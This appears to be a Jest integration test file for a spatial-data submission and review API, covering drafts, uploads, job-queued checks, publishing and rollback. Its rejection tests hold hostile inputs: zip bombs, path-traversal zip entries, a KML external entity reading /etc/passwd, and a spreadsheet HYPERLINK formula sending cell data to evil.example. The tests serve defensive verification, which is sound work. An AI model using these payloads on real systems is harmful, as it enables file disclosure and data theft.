/** @jest-environment node */
import fs from 'node:fs';
import path from 'node:path';
import * as mailCreate from '@/pages/api/email/spatial-data-create';
import * as mailSubmit from '@/pages/api/email/spatial-data-submit';
import * as features from '@/pages/api/map-explorer/layers/[layerKey]/features';
import * as submission from '@/pages/api/spatial-data/submission';
import * as featuresOf from '@/pages/api/spatial-data/submission/features';
import * as file from '@/pages/api/spatial-data/submission/file';
import * as status from '@/pages/api/spatial-data/submission/status';
import { db } from '@/lib/server/db/knex';
import { toGeoPackage } from '@/lib/server/geo/gpkg';
import { resetEnvCache } from '@/lib/server/env';
import { getStorage } from '@/lib/server/storage';
import type { SubmissionDetail, SubmissionDiff } from '@/lib/shared/schemas/spatialData';
import type { FeatureCollection } from 'geojson';
import { callApi } from '../helpers/apiMock';
import { DEMO, sessionCookie, userId } from '../helpers/session';
import { organizationListing, reviewQueue } from '@/lib/server/services/spatialData';
import {
  LAMBERT_PRJ,
  bowtie,
  geojson,
  kml,
  shapefileParts,
  shapefileZip,
  toLambert,
  udaFeatures,
  zipBomb,
  zipOf,
  dbfAsLatin1,
} from '../helpers/spatialFixtures';
import { runJobWorker } from '../helpers/jobWorker';
import { enqueue } from '@/lib/server/jobs/queue';
import { UPLOADS_WAITING_MAX } from '@/lib/server/services/spatialData/uploads';
import { useTempDatabase } from '../helpers/tempDb';

let dir: string;
let cleanup: () => Promise<void>;
let planner: { cookie: string };
let otherOrg: { cookie: string };
let reviewer: { cookie: string };
let stopWorker: () => Promise<void>;
beforeAll(async () => {
  ({ dir, cleanup } = await useTempDatabase());
  stopWorker = runJobWorker();
  [planner, otherOrg, reviewer] = await Promise.all([
    sessionCookie(DEMO.submitter),
    sessionCookie(DEMO.otherSubmitter),
    sessionCookie(DEMO.reviewer),
  ]);
}, 60_000);
afterAll(async () => {
  await stopWorker();
  await cleanup();
});

const storedUploads = (): string[] => {
  const root = path.join(dir, 'documents', '_library', 'private', 'intake');
  return fs.existsSync(root)
    ? (fs.readdirSync(root, { recursive: true }) as string[]).filter((f) => f.includes('.'))
    : [];
};
const outbox = (): string[] => {
  const d = path.join(dir, 'outbox');
  return fs.existsSync(d)
    ? fs
        .readdirSync(d)
        .sort()
        .map((f) => fs.readFileSync(path.join(d, f), 'utf8'))
    : [];
};
/** The mails sent after the first `before`, once there are `count` of them (a job sends them after the commit). */
async function mailedSince(before: number, count = 1): Promise<string[]> {
  while (outbox().length < before + count) await new Promise((r) => setTimeout(r, 50));
  return outbox().slice(before);
}
const headerOf = (eml: string, name: string) =>
  new RegExp(`^${name}: (.*(?:\\r\\n[ \\t].*)*)`, 'mi').exec(eml)?.[1].replace(/\r\n[ \t]+/g, ' ') ?? '';

async function newDraft(title = 'Culpeper UDA update'): Promise<SubmissionDetail> {
  const res = await callApi(submission, {
    method: 'POST',
    headers: planner,
    body: { layerID: 'urban-development-areas', title, description: 'Adopted with the 2026 plan.' },
  });
  expect(res.status).toBe(201);
  return res.json as SubmissionDetail;
}

const upload = (
  id: string,
  name: string,
  body: Buffer,
  extra: Record<string, string> = {},
  headers = planner,
) => callApi(file, { method: 'PUT', query: { submissionID: id, fileName: name, ...extra }, body, headers });

const versionsOf = async (id: string) =>
  Number((await (await db())('submission_versions').where({ submission_id: id }).count({ n: '*' }))[0].n);

describe('drafts', () => {
  it('201 with a tracking number and a status record; the organisation and reviewers can read it, others cannot', async () => {
    const d = await newDraft();
    expect(d).toMatchObject({
      status: 'draft',
      organization: 'Culpeper County',
      editable: true,
      versions: [],
    });
    expect(d.trackingNumber).toMatch(/^VT-SD-\d{4}-\d{5}$/);
    expect(d.history).toEqual([expect.objectContaining({ status: 'draft', by: DEMO.submitter })]);
    const asReviewer = await callApi(submission, {
      query: { submissionID: d.submissionID },
      headers: reviewer,
    });
    expect([asReviewer.status, asReviewer.headers.get('cache-control')]).toEqual([200, 'private, no-store']);
    const asOther = await callApi(submission, { query: { submissionID: d.submissionID }, headers: otherOrg });
    expect(asOther.status).toBe(404);
  });

  it('400 naming the field for a bad body; 404 for an unknown layer; 403 for a reviewer creating one', async () => {
    const bad = await callApi(submission, {
      method: 'POST',
      headers: planner,
      body: { layerID: 'urban-development-areas', title: 'x' },
    });
    expect([bad.status, (bad.json as { error: { field: string } }).error.field]).toEqual([400, 'title']);
    const unknown = await callApi(submission, {
      method: 'POST',
      headers: planner,
      body: { layerID: 'no-such-layer', title: 'Something' },
    });
    expect(unknown.status).toBe(404);
    const rev = await callApi(submission, {
      method: 'POST',
      headers: reviewer,
      body: { layerID: 'urban-development-areas', title: 'Something' },
    });
    expect(rev.status).toBe(403);
  });

  it('mails the submitter that the draft is saved (and only the submitter may ask)', async () => {
    const d = await newDraft('Mail check');
    const before = outbox().length;
    expect(
      (
        await callApi(mailCreate, {
          method: 'POST',
          headers: planner,
          body: { submissionID: d.submissionID },
        })
      ).status,
    ).toBe(200);
    const mail = outbox()[before];
    expect(headerOf(mail, 'To')).toBe(DEMO.submitter);
    expect(headerOf(mail, 'Subject')).toBe(`Spatial data: draft saved (${d.trackingNumber})`);
    expect(
      (await callApi(mailCreate, { method: 'POST', body: { submissionID: d.submissionID } })).status,
    ).toBe(401);
    expect(
      (
        await callApi(mailCreate, {
          method: 'POST',
          headers: reviewer,
          body: { submissionID: d.submissionID },
        })
      ).status,
    ).toBe(403);
    expect(
      (
        await callApi(mailCreate, {
          method: 'POST',
          headers: otherOrg,
          body: { submissionID: d.submissionID },
        })
      ).status,
    ).toBe(404);
    expect(outbox()).toHaveLength(before + 1);
  });
});

describe('uploads and the pre-flight report', () => {
  it('stores the file privately with its report and a status record', async () => {
    const d = await newDraft();
    const zip = await shapefileZip(udaFeatures(3), { prj: LAMBERT_PRJ, project: toLambert });
    const res = await upload(d.submissionID, 'uda.zip', zip);
    expect(res.status).toBe(200);
    const after = res.json as SubmissionDetail;
    expect(after.versions[0]).toMatchObject({
      version: 1,
      fileName: 'uda.zip',
      format: 'shapefile',
      featureCount: 3,
      crs: 'EPSG:3968',
      blocking: false,
    });
    expect(after.versions[0].findings.map((f) => f.topic)).toEqual(['crs', 'encoding', 'count', 'fields']);
    expect(after.history.at(-1)?.note).toBe('Uploaded version 1: uda.zip (3 features).');
    const stored = storedUploads().filter((f) => f.startsWith(d.submissionID));
    expect(stored.sort()).toEqual([
      `${d.submissionID}/v1/features.geojson`,
      `${d.submissionID}/v1/original.zip`,
    ]);
    expect(fs.existsSync(path.join(dir, 'documents', d.submissionID))).toBe(false);
    const fc = await callApi(featuresOf, { query: { submissionID: d.submissionID }, headers: planner });
    const body = fc.json as { features: FeatureCollection; diff: SubmissionDiff };
    expect(body.features.features).toHaveLength(3);
    // The seed's illustrative Culpeper UDAs are named "Culpeper UDA 1…", as the fixture's are: same names,
    // other shapes, so they count as changed; the seeded ones not in the file count as removed.
    const seeded = (
      await (
        await db()
      )('layer_features')
        .where({ layer_key: 'urban-development-areas' })
        .select('properties')
    ).filter((r: { properties: string }) => JSON.parse(r.properties).locality === 'Culpeper County').length;
    expect(body.diff).toMatchObject({ added: 0, changed: 3, unchanged: 0, removed: seeded - 3 });
    expect(body.diff.states).toEqual(['changed', 'changed', 'changed']);
    expect(body.diff.published.features).toHaveLength(seeded);
  });

  it('asks for the coordinate system (422 on crs) when a shapefile without .prj is projected, then takes the choice', async () => {
    const d = await newDraft();
    const zip = await shapefileZip(udaFeatures(2), { prj: null, project: toLambert });
    const ask = await upload(d.submissionID, 'uda.zip', zip);
    expect([ask.status, (ask.json as { error: { field: string } }).error.field]).toEqual([422, 'crs']);
    expect(await versionsOf(d.submissionID)).toBe(0);
    const bad = await upload(d.submissionID, 'uda.zip', zip, { crs: 'EPSG:9999' });
    expect(bad.status).toBe(400);
    const ok = await upload(d.submissionID, 'uda.zip', zip, { crs: 'EPSG:3968' });
    expect((ok.json as SubmissionDetail).versions[0].crs).toBe('EPSG:3968');
  });

  it('reports problems to fix and refuses to submit until they are fixed', async () => {
    const d = await newDraft();
    const fsx = udaFeatures(2);
    fsx[1].geometry = bowtie(-78, 38.5);
    const res = await upload(d.submissionID, 'uda.geojson', geojson(fsx));
    expect((res.json as SubmissionDetail).versions[0].blocking).toBe(true);
    const submit = await callApi(submission, {
      method: 'PUT',
      headers: planner,
      body: { submissionID: d.submissionID, submit: true },
    });
    expect(submit.status).toBe(409);
  });

  const hostile: Array<[string, () => Promise<[string, Buffer]>, number, RegExp]> = [
    ['a zip bomb', async () => ['uda.zip', await zipBomb()], 422, /zip bomb/],
    [
      'a ../ entry',
      async () => ['uda.zip', await zipOf({ '../uda.shp': Buffer.from('x'), 'uda.dbf': Buffer.from('x') })],
      422,
      /unsafe path/,
    ],
    [
      'an absolute entry',
      async () => ['uda.zip', await zipOf({ '/tmp/uda.shp': Buffer.from('x') })],
      422,
      /unsafe path/,
    ],
    [
      'a symlink entry',
      async () => ['uda.zip', await zipOf({ 'uda.shp': Buffer.from('x') }, { symlink: 'uda.dbf' })],
      422,
      /symbolic link/,
    ],
    [
      'a file that is not what its name says',
      async () => ['uda.zip', Buffer.from('<kml></kml>')],
      422,
      /holds XML text/,
    ],
    [
      'a projected shapefile without .prj',
      async () => ['uda.zip', await shapefileZip(udaFeatures(1), { prj: null, project: toLambert })],
      422,
      /no \.prj/,
    ],
    [
      'a non-UTF-8 .dbf without .cpg',
      async () => {
        const parts = await shapefileParts(
          udaFeatures(1).map((f) => ({ ...f, properties: { ...f.properties, name: 'Café' } })),
        );
        return [
          'uda.zip',
          await zipOf({
            'u.shp': parts.shp,
            'u.shx': parts.shx,
            'u.dbf': dbfAsLatin1(parts.dbf),
            'u.prj': LAMBERT_PRJ,
          }),
        ];
      },
      422,
      /not UTF-8/,
    ],
    [
      'mixed geometry types',
      async () => [
        'm.geojson',
        geojson([
          ...udaFeatures(1),
          { type: 'Feature', geometry: { type: 'Point', coordinates: [-78, 38.5] }, properties: {} },
        ]),
      ],
      422,
      /mixes/,
    ],
    ['zero features', async () => ['e.geojson', geojson([])], 422, /no features/],
    [
      'deeply nested GeoJSON',
      async () => [
        'd.geojson',
        Buffer.from(
          `{"type":"FeatureCollection","features":[{"properties":${'['.repeat(40)}${']'.repeat(40)}}]}`,
        ),
      ],
      422,
      /nests/,
    ],
    [
      'KML with external entities',
      async () => [
        'x.kml',
        kml(udaFeatures(1), '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
      ],
      422,
      /entities/,
    ],
    ['an unknown file type', async () => ['uda.exe', Buffer.from('MZ')], 415, /not accepted/],
  ];
  it.each(hostile)('%s: a clear 4xx and nothing stored', async (_label, make, code, message) => {
    const d = await newDraft();
    const before = storedUploads().length;
    const [name, bytes] = await make();
    const res = await upload(d.submissionID, name, bytes);
    expect(res.status).toBe(code);
    expect((res.json as { error: { message: string } }).error.message).toMatch(message);
    expect([storedUploads().length, await versionsOf(d.submissionID)]).toEqual([before, 0]);
  });

  it('too many features: 422 against INTAKE_MAX_FEATURES', async () => {
    process.env.INTAKE_MAX_FEATURES = '5';
    resetEnvCache();
    try {
      const d = await newDraft();
      const res = await upload(d.submissionID, 'uda.geojson', geojson(udaFeatures(6)));
      expect([res.status, (res.json as { error: { message: string } }).error.message]).toEqual([
        422,
        expect.stringMatching(/has 6 features; at most 5/),
      ]);
    } finally {
      delete process.env.INTAKE_MAX_FEATURES;
      resetEnvCache();
    }
  });

  it('a 1 GB stream is cut off at the size cap (413) and nothing is stored', async () => {
    process.env.INTAKE_MAX_UPLOAD_MB = '2';
    resetEnvCache();
    try {
      const d = await newDraft();
      const chunk = new Uint8Array(1024 * 1024);
      let sent = 0;
      const gigabyte = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (sent++ >= 1024) controller.close();
          else controller.enqueue(chunk);
        },
      });
      const before = storedUploads().length;
      const res = await callApi(file, {
        method: 'PUT',
        query: { submissionID: d.submissionID, fileName: 'big.geojson' },
        body: gigabyte,
        headers: planner,
      });
      expect([res.status, (res.json as { error: { message: string } }).error.message]).toEqual([
        413,
        expect.stringMatching(/larger than 2 MB/),
      ]);
      expect([storedUploads().length, await versionsOf(d.submissionID)]).toEqual([before, 0]);
    } finally {
      delete process.env.INTAKE_MAX_UPLOAD_MB;
      resetEnvCache();
    }
  });

  it('uploads are for the submitting organisation only', async () => {
    const d = await newDraft();
    const zip = await shapefileZip(udaFeatures(1));
    expect((await upload(d.submissionID, 'u.zip', zip, {}, otherOrg)).status).toBe(404);
    expect((await upload(d.submissionID, 'u.zip', zip, {}, reviewer)).status).toBe(403);
    expect(
      (
        await callApi(file, {
          method: 'PUT',
          query: { submissionID: d.submissionID, fileName: 'u.zip' },
          body: zip,
        })
      ).status,
    ).toBe(401);
  });
});

describe('the pre-flight as a job', () => {
  const progress = (id: string, job: number, headers = planner) =>
    callApi(file, { query: { submissionID: id, job: String(job) }, headers });
  /** Asks as the page does until the answer is no longer 202. */
  async function untilChecked(id: string, job: number) {
    for (;;) {
      const res = await progress(id, job);
      if (res.status !== 202) return res;
      await new Promise((r) => setTimeout(r, 50));
    }
  }
  afterEach(() => {
    delete process.env.INTAKE_UPLOAD_WAIT_MS;
    resetEnvCache();
  });

  it('a check that outlasts the wait answers 202 with its job; asking again gives the report once it is ready', async () => {
    process.env.INTAKE_UPLOAD_WAIT_MS = '0';
    resetEnvCache();
    const d = await newDraft();
    const res = await upload(d.submissionID, 'uda.zip', await shapefileZip(udaFeatures(2)));
    expect(res.status).toBe(202);
    const { checking } = res.json as { checking: { job: number; fileName: string } };
    expect(checking.fileName).toBe('uda.zip');
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const done = await untilChecked(d.submissionID, checking.job);
    expect(done.status).toBe(200);
    expect((done.json as SubmissionDetail).versions[0]).toMatchObject({ version: 1, featureCount: 2 });
    // The incoming copy is gone; the version keeps its original and features.
    expect(
      storedUploads()
        .filter((f) => f.startsWith(d.submissionID))
        .sort(),
    ).toEqual([`${d.submissionID}/v1/features.geojson`, `${d.submissionID}/v1/original.zip`]);
    // Another organisation learns nothing of it; a job of another submission is not this one's.
    expect((await progress(d.submissionID, checking.job, otherOrg)).status).toBe(404);
    const other = await newDraft('Another draft');
    expect((await progress(other.submissionID, checking.job)).status).toBe(404);
  });

  it('a storage outage while the job reads the file is tried again, not blamed on the file', async () => {
    process.env.INTAKE_UPLOAD_WAIT_MS = '0';
    resetEnvCache();
    const d = await newDraft();
    const storage = getStorage();
    const read = storage.getPrivate.bind(storage);
    let refused = 0;
    const outage = jest.spyOn(storage, 'getPrivate').mockImplementation(async (key: string) => {
      if (key.includes(d.submissionID) && refused === 0) {
        refused += 1;
        throw new Error('connect ECONNREFUSED 127.0.0.1:10000');
      }
      return read(key);
    });
    try {
      const res = await upload(d.submissionID, 'uda.zip', await shapefileZip(udaFeatures(2)));
      expect(res.status).toBe(202);
      const done = await untilChecked(
        d.submissionID,
        (res.json as { checking: { job: number } }).checking.job,
      );
      expect(refused).toBe(1);
      expect(done.status).toBe(200);
      expect((done.json as SubmissionDetail).versions[0]).toMatchObject({ version: 1, featureCount: 2 });
    } finally {
      outage.mockRestore();
    }
  }, 60_000);

  it('a file refused by the job answers as the upload would have, and nothing is kept', async () => {
    process.env.INTAKE_UPLOAD_WAIT_MS = '0';
    resetEnvCache();
    const d = await newDraft();
    const res = await upload(d.submissionID, 'broken.geojson', Buffer.from('{"type":"FeatureCollection",'));
    expect(res.status).toBe(202);
    const done = await untilChecked(d.submissionID, (res.json as { checking: { job: number } }).checking.job);
    expect(done.status).toBe(422);
    expect((done.json as { error: { message: string } }).error.message).toMatch(/GeoJSON/);
    expect(await versionsOf(d.submissionID)).toBe(0);
    expect(storedUploads().filter((f) => f.startsWith(d.submissionID))).toEqual([]);
  });

  it('a file type that is not accepted is refused at once (415), before anything is stored or queued', async () => {
    const d = await newDraft();
    const k = await db();
    const jobs = Number((await k('jobs').count({ n: '*' }))[0].n);
    const res = await upload(d.submissionID, 'layer.dwg', Buffer.from('AC1032'));
    expect(res.status).toBe(415);
    expect(Number((await k('jobs').count({ n: '*' }))[0].n)).toBe(jobs);
    expect(storedUploads().filter((f) => f.startsWith(d.submissionID))).toEqual([]);
  });

  it("a submitter's fourth upload while three wait is refused (429, how many wait), nothing stored or queued", async () => {
    const d = await newDraft();
    const k = await db();
    const group = `submitter:${await userId(DEMO.submitter)}`;
    const later = new Date(Date.now() + 3_600_000).toISOString(); // waiting, not yet due: no worker takes them
    const waiting = [];
    for (let i = 0; i < UPLOADS_WAITING_MAX; i++) {
      waiting.push(
        await enqueue('spatial-data-preflight', { planted: i }, { group, runAt: Date.parse(later) }),
      );
    }
    try {
      const jobs = Number((await k('jobs').count({ n: '*' }))[0].n);
      const res = await upload(d.submissionID, 'uda.zip', await shapefileZip(udaFeatures(2)));
      expect(res.status).toBe(429);
      expect(res.headers.get('retry-after')).toBe('60');
      expect((res.json as { error: { message: string } }).error.message).toBe(
        'You already have 3 files being checked or waiting to be checked (at most 3 at a time). Upload this file again when one of them has finished.',
      );
      expect(Number((await k('jobs').count({ n: '*' }))[0].n)).toBe(jobs);
      expect(storedUploads().filter((f) => f.startsWith(d.submissionID))).toEqual([]);
      // Another submitter is not held by this one's queue; once one of these ends, the upload is taken.
      expect(
        (await upload(d.submissionID, 'uda.zip', await shapefileZip(udaFeatures(2)), {}, otherOrg)).status,
      ).not.toBe(429);
      await k('jobs').where({ id: waiting.pop()! }).delete();
      expect((await upload(d.submissionID, 'uda.zip', await shapefileZip(udaFeatures(2)))).status).toBe(200);
    } finally {
      await k('jobs').whereIn('id', waiting).delete();
    }
  });

  it('a GeoPackage upload is stored as a version (its original kept as .gpkg)', async () => {
    const d = await newDraft();
    const gpkg = toGeoPackage([{ table: 'uda', title: 'UDAs', fields: [], features: udaFeatures(2) }]);
    const res = await upload(d.submissionID, 'uda.gpkg', gpkg);
    expect(res.status).toBe(200);
    expect((res.json as SubmissionDetail).versions[0]).toMatchObject({
      format: 'gpkg',
      featureCount: 2,
    });
    expect(storedUploads().filter((f) => f.startsWith(d.submissionID))).toContain(
      `${d.submissionID}/v1/original.gpkg`,
    );
  });
});

describe('the review loop: submit, request changes, new version, approve, publish, roll back', () => {
  it('works end to end and each step writes a status record and mails', async () => {
    const k = await db();
    const d = await newDraft('Downtown UDA');
    await upload(d.submissionID, 'uda.zip', await shapefileZip(udaFeatures(2)));
    const submitted = await callApi(submission, {
      method: 'PUT',
      headers: planner,
      body: { submissionID: d.submissionID, submit: true },
    });
    expect((submitted.json as SubmissionDetail).status).toBe('submitted');
    const before = outbox().length;
    const sent = await callApi(mailSubmit, {
      method: 'POST',
      headers: planner,
      body: { submissionID: d.submissionID },
    });
    expect(sent.json).toEqual({ sent: 3 }); // two reviewers (one is the admin) and the receipt
    const mails = outbox().slice(before);
    expect(mails.map((m) => headerOf(m, 'To')).sort()).toEqual(
      [`${DEMO.admin}, ${DEMO.reviewer}`, DEMO.submitter].sort(),
    );

    // A submitter cannot act as a reviewer.
    expect(
      (
        await callApi(status, {
          method: 'POST',
          headers: planner,
          body: { submissionID: d.submissionID, status: 'approved' },
        })
      ).status,
    ).toBe(403);
    // Approving needs a review first; asking for changes needs a note.
    expect(
      (
        await callApi(status, {
          method: 'POST',
          headers: reviewer,
          body: { submissionID: d.submissionID, status: 'approved' },
        })
      ).status,
    ).toBe(409);
    const noNote = await callApi(status, {
      method: 'POST',
      headers: reviewer,
      body: { submissionID: d.submissionID, status: 'changes-requested' },
    });
    expect([noNote.status, (noNote.json as { error: { field: string } }).error.field]).toEqual([400, 'note']);
    const note = 'Please add the third UDA adopted in March.';
    const mailedBeforeChanges = outbox().length;
    const changes = await callApi(status, {
      method: 'POST',
      headers: reviewer,
      body: { submissionID: d.submissionID, status: 'changes-requested', note },
    });
    expect(changes.status).toBe(201);
    expect((await mailedSince(mailedBeforeChanges)).at(-1)).toContain(note);

    // The submitter uploads a new version and resubmits.
    const v2 = await upload(d.submissionID, 'uda-v2.zip', await shapefileZip(udaFeatures(3, 100)));
    expect((v2.json as SubmissionDetail).versions.map((v) => v.version)).toEqual([2, 1]);
    await callApi(submission, {
      method: 'PUT',
      headers: planner,
      body: { submissionID: d.submissionID, submit: true },
    });
    for (const s of ['in-review', 'approved']) {
      expect(
        (
          await callApi(status, {
            method: 'POST',
            headers: reviewer,
            body: { submissionID: d.submissionID, status: s, note: `ok ${s}` },
          })
        ).status,
      ).toBe(201);
    }
    // No edits after approval.
    const edit = await callApi(submission, {
      method: 'PUT',
      headers: planner,
      body: { submissionID: d.submissionID, title: 'Changed title' },
    });
    expect(edit.status).toBe(409);
    expect((await upload(d.submissionID, 'uda-v3.zip', await shapefileZip(udaFeatures(1)))).status).toBe(409);

    // Publish: the organisation's features in the UDA layer are replaced.
    const culpeperBefore = (
      await k('layer_features').where({ layer_key: 'urban-development-areas' }).select('properties', 'id')
    ).filter((r: { properties: string }) => JSON.parse(r.properties).locality === 'Culpeper County');
    const totalBefore = Number(
      (await k('layer_features').where({ layer_key: 'urban-development-areas' }).count({ n: '*' }))[0].n,
    );
    const beforePublish = outbox().length;
    const pub = await callApi(status, {
      method: 'POST',
      headers: reviewer,
      body: { submissionID: d.submissionID, status: 'published' },
    });
    expect(pub.status).toBe(201);
    // The submitter's "published" mail is a job: wait for it, so the roll-back's mail below is counted after it
    // (counted before it arrived, the roll-back's check read the publish mail on a slow machine).
    const published = await mailedSince(beforePublish);
    expect(headerOf(published[0]!, 'Subject')).toMatch(/^Spatial data: published/);
    const detail = pub.json as SubmissionDetail;
    expect(detail.status).toBe('published');
    expect(detail.publications[0]).toMatchObject({
      version: 2,
      added: 3,
      removed: culpeperBefore.length,
      rolledBackAt: null,
    });
    expect(detail.history.map((h) => h.status)).toEqual([
      'draft',
      'draft',
      'submitted',
      'changes-requested',
      'changes-requested',
      'submitted',
      'in-review',
      'approved',
      'published',
    ]);
    const ours = await k('layer_features')
      .where({ layer_key: 'urban-development-areas', organization_id: 'locality-51047' })
      .select('name', 'properties');
    expect(ours.map((r: { name: string }) => r.name).sort()).toEqual([
      'Culpeper UDA 101',
      'Culpeper UDA 102',
      'Culpeper UDA 103',
    ]);
    expect(JSON.parse(ours[0].properties)).toMatchObject({
      locality: 'Culpeper County',
      district: 'Culpeper',
      acres: 100,
    });
    const total = Number(
      (await k('layer_features').where({ layer_key: 'urban-development-areas' }).count({ n: '*' }))[0].n,
    );
    expect(total).toBe(totalBefore - culpeperBefore.length + 3);
    // The Map Explorer's features API serves them (its cache notices the new rows).
    const api = await callApi(features, {
      params: { layerKey: 'urban-development-areas' },
      query: { q: 'Culpeper UDA' },
    });
    expect((JSON.parse(api.text) as FeatureCollection).features.map((f) => f.properties?.name)).toEqual(
      expect.arrayContaining(['Culpeper UDA 101', 'Culpeper UDA 103']),
    );

    // Roll back: the earlier features return, and the submitter is told.
    const mailedBefore = outbox().length;
    const back = await callApi(status, {
      method: 'PUT',
      headers: reviewer,
      body: { submissionID: d.submissionID },
    });
    expect((back.json as SubmissionDetail).status).toBe('approved');
    const told = await mailedSince(mailedBefore);
    expect(told.map((m) => headerOf(m, 'To'))).toEqual([DEMO.submitter]);
    expect(headerOf(told[0]!, 'Subject')).toMatch(/^Spatial data: publish rolled back/);
    expect(told[0]).toMatch(/no longer on the Map Explorer/);
    expect((back.json as SubmissionDetail).publications[0].rolledBackAt).not.toBeNull();
    // The submitter's list says it was rolled back, not that OIPI will publish it.
    const listed = (
      await organizationListing({
        id: await userId(DEMO.submitter),
        email: DEMO.submitter,
        name: null,
        roles: ['submitter'],
        organizationId: 'locality-51047',
      })
    ).find((x) => x.submissionID === d.submissionID)!;
    expect(listed.status).toBe('approved');
    expect(listed.rolledBackAt).toBe((back.json as SubmissionDetail).publications[0].rolledBackAt);
    // The reviewers' queue marks it too, rather than a plain Approved.
    const queued = (await reviewQueue({})).find((x) => x.submissionID === d.submissionID)!;
    expect(queued.rolledBackAt).toBe(listed.rolledBackAt);
    const restored = Number(
      (await k('layer_features').where({ layer_key: 'urban-development-areas' }).count({ n: '*' }))[0].n,
    );
    expect(restored).toBe(totalBefore);
    expect(await k('layer_features').where({ organization_id: 'locality-51047' }).count({ n: '*' })).toEqual([
      { n: 0 },
    ]);
  });

  it("a formula in a submitter's feature name reaches the public layer CSV neutralised", async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    const d = await newDraft('Formula UDA');
    const [f] = udaFeatures(1, 200);
    const up = await upload(
      d.submissionID,
      'uda.geojson',
      geojson([{ ...f!, properties: { ...f!.properties, name: formula, town: '@SUM(A1)' } }]),
    );
    expect(up.status).toBe(200);
    await callApi(submission, {
      method: 'PUT',
      headers: planner,
      body: { submissionID: d.submissionID, submit: true },
    });
    for (const s of ['in-review', 'approved', 'published']) {
      const res = await callApi(status, {
        method: 'POST',
        headers: reviewer,
        body: { submissionID: d.submissionID, status: s },
      });
      expect(res.status).toBe(201);
    }
    const csv = await callApi(features, {
      params: { layerKey: 'urban-development-areas' },
      query: { format: 'csv', q: 'HYPERLINK' },
    });
    expect(csv.status).toBe(200);
    const row = csv.text.split('\n').find((l) => l.includes('HYPERLINK'));
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // Back as it was for the other tests.
    await callApi(status, { method: 'PUT', headers: reviewer, body: { submissionID: d.submissionID } });
  });
});
